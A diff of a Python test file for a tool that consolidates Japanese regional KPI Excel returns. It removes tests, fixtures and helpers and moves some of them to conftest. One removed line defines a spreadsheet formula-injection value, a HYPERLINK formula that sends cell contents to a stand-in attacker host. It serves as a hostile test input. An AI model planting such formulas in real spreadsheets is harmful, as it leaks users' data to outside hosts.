@@ -4,68 +4,16 @@ import json
 import re
 import shutil
 import zipfile
-from dataclasses import replace
 
 import openpyxl
-import pytest
 from click.testing import CliRunner
 
 import kpi_workbook.consolidate as C
-from kpi_workbook import submission
-from kpi_workbook.discover import workbook_modified
-from kpi_workbook.check import check_workbook
 from kpi_workbook.cli import cli
 from kpi_workbook.consolidate import consolidate
-from kpi_workbook.errors import InputChangedError
 from kpi_workbook.fill import fill_workbook
 
-from .conftest import FIXTURES, SAMPLES
-
-INJECTION = '=HYPERLINK("http://evil.example/"&A1,"click")'
-
-
-def set_modified(path, stamp):
-    """Rewrite the workbook's own modified time (what decides which resubmission wins)."""
-    with zipfile.ZipFile(path) as zf:
-        parts = {n: zf.read(n) for n in zf.namelist()}
-    core = parts["docProps/core.xml"].decode()
-    core = re.sub(r"(<dcterms:modified[^>]*>)[^<]*(<)", rf"\g<1>{stamp}\g<2>", core)
-    parts["docProps/core.xml"] = core.encode()
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
-        for name, data in parts.items():
-            zf.writestr(name, data)
-
-
-@pytest.fixture(scope="module")
-def returns(generated, tmp_path_factory):
-    """The sample returns (seeds' numbers), plus a resubmission, a foreign file, junk."""
-    folder = tmp_path_factory.mktemp("returns")
-    for answers in sorted((SAMPLES / "returns").glob("*.json")):
-        data = json.loads(answers.read_text(encoding="utf-8"))
-        path = fill_workbook(generated[answers.stem], data, folder / generated[answers.stem].name)
-        set_modified(path, "2021-10-15T09:00:00Z")
-    # 播磨 sends a corrected file later; the first one had a typo and an injected formula
-    first = json.loads((SAMPLES / "returns" / "R02.json").read_text(encoding="utf-8"))
-    first["KPI"][0]["目標値"] = "百八十四"
-    first["KPI"][0]["指標名"] = INJECTION
-    old = fill_workbook(generated["R02"], first, folder / "old" / "R02_初回.xlsx")
-    set_modified(old, "2021-10-01T09:00:00Z")
-    shutil.copy(FIXTURES / "xlsx-hostile" / "control_valid.xlsx", folder / "foreign.xlsx")
-    (folder / "~$R01_熊本連携中枢都市圏.xlsx").write_bytes(b"lock")
-    (folder / "readme.txt").write_text("memo", encoding="utf-8")
-    return folder
-
-
-@pytest.fixture(scope="module")
-def summary(returns, tmp_path_factory):
-    out = tmp_path_factory.mktemp("summary")
-    result = consolidate(returns, SAMPLES / "roster.csv", out / "summary.xlsx", csv_dir=out / "csv", jobs=2)
-    return result, openpyxl.load_workbook(out / "summary.xlsx"), out
-
-
-def rows(ws):
-    return [list(r) for r in ws.iter_rows(values_only=True)]
-
+from .conftest import INJECTION, SAMPLES, rows, set_modified
 
 def test_submission_outcomes(summary):
     result, _, _ = summary
@@ -132,17 +80,6 @@ def test_toyama_below_baseline_warning_is_listed(summary):
     _, book, _ = summary
     findings = rows(book["指摘一覧"])
     assert any(r[7] == "TARGET_AGAINST_DIRECTION" and r[1].startswith("R04") and r[3] == "J4" for r in findings)
-
-
-def test_evaluation_sheet_for_asahikawa(summary):
-    _, book, _ = summary
-    cells = [c for row in book["事務事業評価"].iter_rows(values_only=True) for c in row if c is not None]
-    assert "12 11 01" in cells and "広域行政推進事業" in cells and "地方自治法第252条の2" in cells
-    assert 77.8 in cells and 38.1 in cells and "達成" in cells
-    assert 115 in cells and 301 in cells and 404 in cells and 210 in cells
-    marks = [c for c in cells if isinstance(c, str) and c.startswith("①") and "③業務の効率化　○" in c]
-    assert len(marks) == 1  # 旭川: ③ and ⑦ marked, the others not
-    assert "⑦職員能力・組織力の向上　○" in marks[0] and "①デジタル化・DX　\n" in marks[0]
 
 
 def test_status_sheet_has_national_kpi_first(summary):
@@ -298,46 +235,6 @@ def test_cli_json(returns, tmp_path):
     assert not any(key.endswith("_path") for s in data["submissions"] for key in s)  # scratch: gone
 
 
-def test_evaluation_per_region_when_too_many_projects(returns, tmp_path, monkeypatch):
-    """Over the one-sheet limit (Excel: 1,026 page breaks), the sheet becomes an index and
-    --evaluation writes one workbook per region with that region's blocks."""
-    import kpi_workbook.summary as S
-    monkeypatch.setattr(S, "MAX_BLOCKS", 3)
-    out = tmp_path / "summary.xlsx"
-    result = consolidate(returns, SAMPLES / "roster.csv", out, jobs=2, evaluation_dir=tmp_path / "評価")
-    index = rows(openpyxl.load_workbook(out)["事務事業評価"])
-    assert "圏域ごとのファイル（フォルダ「評価」）" in index[0][0]
-    assert [r[0] for r in index[2:-1]] == sorted(s.region_code for s in result.used)
-    assert index[-1][0] == "計" and index[-1][2] == sum(s.projects for s in result.used) == sum(r[2] for r in index[2:-1])
-    files = sorted(p.name for p in (tmp_path / "評価").iterdir())
-    assert len(files) == len(result.used) and all(f.endswith(".xlsx") for f in files)
-    asahikawa = next(p for p in (tmp_path / "評価").iterdir() if p.name.startswith("R07"))
-    cells = [c for row in openpyxl.load_workbook(asahikawa)["事務事業評価"].iter_rows(values_only=True) for c in row if c]
-    assert 77.8 in cells and 38.1 in cells and "広域行政推進事業" in cells
-    assert not any(isinstance(c, str) and "熊本" in c for c in cells)  # only its own region
-    link = openpyxl.load_workbook(out)["事務事業評価"].cell(3, 4).hyperlink
-    assert link is not None and link.target.replace("\\", "/").startswith("評価/R01_")
-
-
-def test_evaluation_too_large_without_folder_says_how(returns, tmp_path, monkeypatch):
-    import kpi_workbook.summary as S
-    monkeypatch.setattr(S, "MAX_BLOCKS", 3)
-    consolidate(returns, SAMPLES / "roster.csv", tmp_path / "s.xlsx", jobs=1)
-    index = rows(openpyxl.load_workbook(tmp_path / "s.xlsx")["事務事業評価"])
-    assert "--evaluation" in index[0][0] and index[1][:3] == ["圏域コード", "圏域名", "事業数"]
-
-
-def test_cli_evaluation_folder(returns, tmp_path):
-    result = CliRunner().invoke(cli, ["consolidate", str(returns), "--roster", str(SAMPLES / "roster.csv"),
-                                      "-o", str(tmp_path / "s.xlsx"), "--evaluation", str(tmp_path / "ev")])
-    assert result.exit_code == 1, result.output
-    assert f"圏域ごとの事務事業評価：{tmp_path / 'ev'}（8ファイル）" in result.output
-    assert len(list((tmp_path / "ev").glob("*.xlsx"))) == 8
-    # few projects: the blocks are also in the summary's own sheet
-    cells = [c for row in openpyxl.load_workbook(tmp_path / "s.xlsx")["事務事業評価"].iter_rows(values_only=True) for c in row]
-    assert 77.8 in cells
-
-
 def test_rows_beyond_excel_limit_are_counted_not_lost(returns, tmp_path, monkeypatch):
     import csv as _csv
 
@@ -359,95 +256,6 @@ def test_cli_progress_covers_checking_and_writing(returns, tmp_path, monkeypatch
                                       "-o", str(tmp_path / "s.xlsx")])
     assert result.exit_code == 1
     assert "提出ファイルを確認中" in result.output and "集計結果を書き出し中" in result.output
-
-
-@pytest.fixture
-def plain_returns(generated, tmp_path):
-    """Only the sample returns, named as generate names them."""
-    folder = tmp_path / "plain"
-    for answers in sorted((SAMPLES / "returns").glob("*.json")):
-        data = json.loads(answers.read_text(encoding="utf-8"))
-        set_modified(fill_workbook(generated[answers.stem], data, folder / generated[answers.stem].name),
-                     f"2021-10-1{answers.stem[-1]}T09:00:00Z")
-    return folder
-
-
-def _run(folder, out, monkeypatch, draft=True):
-    """consolidate, recording whether the draft written during the checks was kept."""
-    import kpi_workbook.summary as S
-    rewrites = []
-    real = S.write_outputs
-    monkeypatch.setattr(S, "write_outputs", lambda *a, **k: (rewrites.append(1), real(*a, **k))[1])
-    if not draft:
-        monkeypatch.setattr(S.DraftedSummary, "offer", lambda self, sub: None)
-    result = consolidate(folder, SAMPLES / "roster.csv", out / "s.xlsx", csv_dir=out / "csv", jobs=2)
-    monkeypatch.undo()
-    return result, not rewrites
-
-
-def test_summary_drafted_during_checks_equals_one_written_after(plain_returns, tmp_path, monkeypatch):
-    first, kept = _run(plain_returns, tmp_path / "a", monkeypatch)
-    assert kept  # generated names sort like region codes: the draft is the summary
-    second, kept = _run(plain_returns, tmp_path / "b", monkeypatch, draft=False)
-    assert not kept
-    assert (tmp_path / "a" / "s.xlsx").read_bytes() == (tmp_path / "b" / "s.xlsx").read_bytes()
-    assert (tmp_path / "a" / "csv" / "kpis.csv").read_bytes() == (tmp_path / "b" / "csv" / "kpis.csv").read_bytes()
-    assert first.totals == second.totals
-
-
-def test_names_out_of_region_order_still_give_region_order(plain_returns, tmp_path, monkeypatch):
-    (plain_returns / next(p.name for p in plain_returns.iterdir() if p.name.startswith("R01"))).rename(
-        plain_returns / "zz_熊本の回答.xlsx")
-    result, kept = _run(plain_returns, tmp_path, monkeypatch)
-    assert not kept  # the draft had skipped 熊本: rewritten in region order
-    codes = [r[0] for r in rows(openpyxl.load_workbook(tmp_path / "s.xlsx")["KPI一覧"])[1:]]
-    assert codes == sorted(codes) and codes[0] == "R01"
-    assert not list(tmp_path.glob(".~tmp-*"))  # the discarded draft left nothing behind
-
-
-def test_resubmission_keeps_the_draft_and_uses_the_newest(plain_returns, generated, tmp_path, monkeypatch):
-    data = json.loads((SAMPLES / "returns" / "R02.json").read_text(encoding="utf-8"))
-    data["KPI"][0]["指標名"] = "再提出で直した指標名"
-    set_modified(fill_workbook(generated["R02"], data, plain_returns / "later" / "R02_再提出.xlsx"),
-                 "2022-01-01T09:00:00Z")
-    result, kept = _run(plain_returns, tmp_path, monkeypatch)
-    assert kept  # the newest file of each region is checked first and drafted
-    assert next(s for s in result.used if s.region_code == "R02").relative == "later/R02_再提出.xlsx"
-    r02 = [r for r in rows(openpyxl.load_workbook(tmp_path / "s.xlsx")["KPI一覧"]) if r[0] == "R02"]
-    assert any("再提出で直した指標名" in r for r in r02)
-
-
-def test_rows_not_parked_are_read_again_for_the_evaluation_blocks(returns, tmp_path, monkeypatch):
-    """A large round does not park every return's rows; when the 事務事業評価 blocks fit
-    after all, the used returns are read again: the same summary either way."""
-    consolidate(returns, SAMPLES / "roster.csv", tmp_path / "a.xlsx", jobs=2)
-    monkeypatch.setattr(C, "PARK_ROWS_UP_TO", 0)
-    result = consolidate(returns, SAMPLES / "roster.csv", tmp_path / "b.xlsx", jobs=2)
-    assert result.used and not any(s.rows_at for s in result.submissions)
-    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
-    sheet = openpyxl.load_workbook(tmp_path / "b.xlsx")["事務事業評価"]
-    projects = sum(s.projects for s in result.used)
-    assert projects and sheet.max_row > 10 * projects  # a block per project, not an index
-
-
-def test_a_return_changed_during_the_run_stops_rather_than_mixing_versions(returns, renkei, tmp_path):
-    path = tmp_path / next(returns.glob("R01_*.xlsx")).name
-    shutil.copy(next(returns.glob("R01_*.xlsx")), path)
-    digest = submission.file_digest(path)
-    rows, _ = submission.kept_rows(check_workbook(path, survey=renkei), renkei, path.name)
-    as_checked = submission.Submission(file=str(path), relative=path.name, modified=workbook_modified(path),
-                              projects=len(rows["projects"]), digest=digest)
-    assert submission.load_rows(as_checked, renkei)["rows"] == rows  # unchanged: read again, the same
-    with pytest.raises(InputChangedError):
-        submission.load_rows(replace(as_checked, projects=as_checked.projects + 1), renkei)
-    # edited in place, same projects and the same modified stamp (a program, not Excel)
-    book = openpyxl.load_workbook(path)
-    book["事業"]["C4"].value = "書き換えた事業名"
-    book.save(path)
-    set_modified(path, as_checked.modified)
-    with pytest.raises(InputChangedError) as caught:
-        submission.load_rows(as_checked, renkei)
-    assert path.name in str(caught.value) and caught.value.exit_code == 2
 
 
 def test_terminal_lists_each_file_with_errors_and_totals_equal_the_overview(returns, tmp_path):
